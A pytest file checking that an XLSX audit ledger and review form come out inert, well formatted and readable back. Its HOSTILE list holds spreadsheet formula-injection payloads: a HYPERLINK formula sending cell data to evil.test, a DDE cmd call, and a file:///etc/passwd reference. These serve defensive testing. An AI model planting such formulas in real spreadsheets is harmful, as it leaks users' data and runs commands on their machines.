"""The ledger and the review form as XLSX: complete, set up for work and paper, and inert whatever the web said."""

import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from checks import Verdict
from reports.ledger import COLUMNS, write_ledger
from reports.review_form import FORM, write_form
from reports.wording import VERDICTS
from reports.workbook import LONGEST
from rules.result import AuditResult, Reviewed
from rules.review_file import SHEET, WORDS, load_reviews

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.test/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "{=1+1}",
    "http://evil.test/",
    "https://evil.test/",
    "mailto:x@evil.test",
    "internal:台账!A1",
    "external:c:\\x.xlsx",
    "file:///etc/passwd",
    "12345678901234567890",
    "2022-02-15",
    "TRUE",
    "_x000D_=1+1",
    "a\x00b\x0bc\x1fd\ufffe",
    "\u202e表年",
    "x" * 50_000,
    "",
    "   ",
]  # fmt: skip


def sheet(path: Path, name: str) -> Any:
    return openpyxl.load_workbook(path)[name]


def hostile_result(build: Callable[..., AuditResult], text: str) -> AuditResult:
    """Put `text` wherever the web or a person could have put it."""
    made = build(2, 3, hostile=False)
    review = Reviewed("verdict", Verdict.PASS, Verdict.FAIL, text, text, date(2022, 2, 1), None, text, text)
    findings = tuple(
        replace(
            each,
            observed=text,
            remedy=text,
            check_title=text,
            verdict=Verdict.FAIL,
            reason=None,
            review=review,
            parts=tuple(replace(part, url=text, verdict=Verdict.FAIL) for part in each.parts),
        )
        for each in made.findings
    )
    cited = tuple(
        replace(each, sources=tuple(replace(source, url=text) for source in each.sources)) for each in made.evidence
    )
    return replace(
        made,
        place=text,
        plan=replace(made.plan, title=text, number=text),
        findings=findings,
        evidence=cited,
        units=tuple(replace(each, name=text) for each in made.units),
        requirements=tuple(replace(each, task=text, text=text, why=text) for each in made.requirements),
        cells=tuple(replace(each, note=text, review=review, needs_person=True) for each in made.cells),
        notices=(text,),
    )


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_cell_from_the_web_acts(text: str, build: Callable[..., AuditResult], tmp_path: Path) -> None:
    """Every such cell is a bounded string; the file has no formula, no link, no macro and no outside reference."""
    result = hostile_result(build, text)
    for path, write in (("l.xlsx", write_ledger), ("f.xlsx", lambda each, to: write_form([each], to))):
        write(result, tmp_path / path)
        book = openpyxl.load_workbook(tmp_path / path)
        for page in book:
            for row in page.iter_rows():
                for cell in row:
                    assert cell.data_type in {"s", "n", "d"}, cell.coordinate
                    assert cell.data_type != "n" or cell.value is None
                    assert cell.hyperlink is None
                    assert len(str(cell.value or "")) <= LONGEST + 40
                    if isinstance(cell.value, str):
                        assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\ufffe]", cell.value)
                        if cell.value.startswith(("=", "+", "-", "@")) and cell.row > 2 and page.title != "说明":
                            assert cell.quotePrefix
        with zipfile.ZipFile(tmp_path / path) as archive:
            names = archive.namelist()
            assert not [name for name in names if re.search("vba|external|embed|connection|media", name)]
            for name in names:
                data = archive.read(name)
                assert b"<f>" not in data
                assert b"<f " not in data
                assert b"<hyperlink" not in data
                assert b'TargetMode="External"' not in data


def test_ledger_has_a_row_for_every_requirement_and_unit(build: Callable[..., AuditResult], tmp_path: Path) -> None:
    """Text, unit, role, verdict in Chinese, what was seen, how to mend it, where, coverage, due day, and blanks."""
    sample = build(hostile=False)
    page = sheet(write_ledger(sample, tmp_path / "ledger.xlsx"), "台账")
    assert [cell.value for cell in page[2]] == [each.heading for each in COLUMNS]
    assert page.max_row == len(sample.cells) + 2
    names = {unit.id: unit.name for unit in sample.units}
    rows = list(page.iter_rows(min_row=3, values_only=True))
    for cell, row in zip(sample.cells, rows, strict=True):
        assert (row[0], row[3], row[6]) == (cell.requirement, names[cell.unit], VERDICTS[cell.verdict].word)
        assert row[4] in {"牵头", "配合"}
        assert row[13:] == (None,) * 4
    failing = next(row for row in rows if row[6] == "不符合")
    assert "77 天未见公开反馈结果" in failing[8]
    assert failing[9].startswith("在“征集结果反馈”栏目")
    assert "http://www.zean.test/hdjl/yjzj/content/post_1.html" in failing[10]
    assert re.fullmatch(r"已判定 \d+ / \d+ 项", failing[11])
    due = next(row for row in rows if row[5])
    assert due[5].date() == date(2021, 12, 31)


def test_ledger_is_ready_for_work_and_paper(sample: AuditResult, tmp_path: Path) -> None:
    """Frozen head, filter, A4 landscape one page wide with repeated head, choices for the unit's answer."""
    page = sheet(write_ledger(sample, tmp_path / "ledger.xlsx"), "台账")
    assert page.freeze_panes == "B3"
    assert page.auto_filter.ref == f"A2:Q{len(sample.cells) + 2}"
    assert (page.page_setup.orientation, page.page_setup.paperSize) == ("landscape", 9)
    assert (page.page_setup.fitToWidth, page.page_setup.fitToHeight) in {(1, 0), (None, 0), ("1", "0")}
    assert page.print_title_rows == "$1:$2"
    validations = {str(each.sqref): each.type for each in page.data_validations.dataValidation}
    assert {"list", "date"} == set(validations.values())


def test_the_same_result_gives_the_same_bytes(sample: AuditResult, tmp_path: Path) -> None:
    for write in (write_ledger, lambda each, to: write_form([each], to)):
        for name in ("a.xlsx", "b.xlsx"):
            write(sample, tmp_path / name)
        assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_an_empty_audit_has_a_ledger_and_a_form(sample: AuditResult, tmp_path: Path) -> None:
    empty = replace(sample, cells=(), findings=(), units=(), requirements=(), evidence=())
    assert sheet(write_ledger(empty, tmp_path / "ledger.xlsx"), "台账").max_row == 2
    assert write_form([empty], tmp_path / "form.xlsx") == 0
    assert load_reviews(tmp_path / "form.xlsx") == ()


def test_form_lists_what_is_open_and_reads_back(sample: AuditResult, tmp_path: Path) -> None:
    """One row per cell that nobody has decided; blank, it says nothing; filled in, it is what was filled in."""
    path = tmp_path / "form.xlsx"
    rows = write_form([sample], path)
    still_open = [
        each
        for each in sample.cells
        if each.needs_person or each.verdict in {Verdict.MANUAL, Verdict.INCONCLUSIVE, Verdict.ERROR}
    ]
    assert rows == len(still_open)
    assert load_reviews(path) == ()
    book = openpyxl.load_workbook(path)
    page = book[SHEET]
    at = {cell.value: cell.column for cell in page[2]}
    assert list(at) == [each.heading for each in FORM]
    lists = [each for each in page.data_validations.dataValidation if each.type == "list"]
    assert [each.formula1 for each in lists] == [f'"{",".join(WORDS)}"']
    for heading, value in {
        "认定": "豁免",
        "理由": "机房改造",
        "认定人": "王五",
        "认定日期": date(2022, 2, 21),
        "有效期至": date(2022, 6, 30),
        "依据（文件或网址）": "泽府办〔2022〕3号",
    }.items():
        page.cell(4, at[heading]).value = value
    book.save(path)
    (read,) = load_reviews(path)
    wanted = still_open[1]
    assert (read.plan, read.requirement, read.unit) == (sample.plan.id, wanted.requirement, wanted.unit)
    assert (read.verdict, read.made, read.until) == (Verdict.NOT_APPLICABLE, date(2022, 2, 21), date(2022, 6, 30))


def test_libreoffice_opens_the_ledger(sample: AuditResult, tmp_path: Path) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not on this machine")
    path = write_ledger(sample, tmp_path / "ledger.xlsx")
    home = f"-env:UserInstallation=file://{tmp_path}/home"
    # Comma, quote, UTF-8: without them the CSV is in the encoding of the machine's locale.
    as_csv = "csv:Text - txt - csv (StarCalc):44,34,76"
    line = [office, home, "--headless", "--convert-to", as_csv, "--outdir", str(tmp_path), str(path)]
    subprocess.run(line, check=True, capture_output=True, timeout=120)
    assert "市财政局" in (tmp_path / "ledger.csv").read_text("utf-8", "replace")
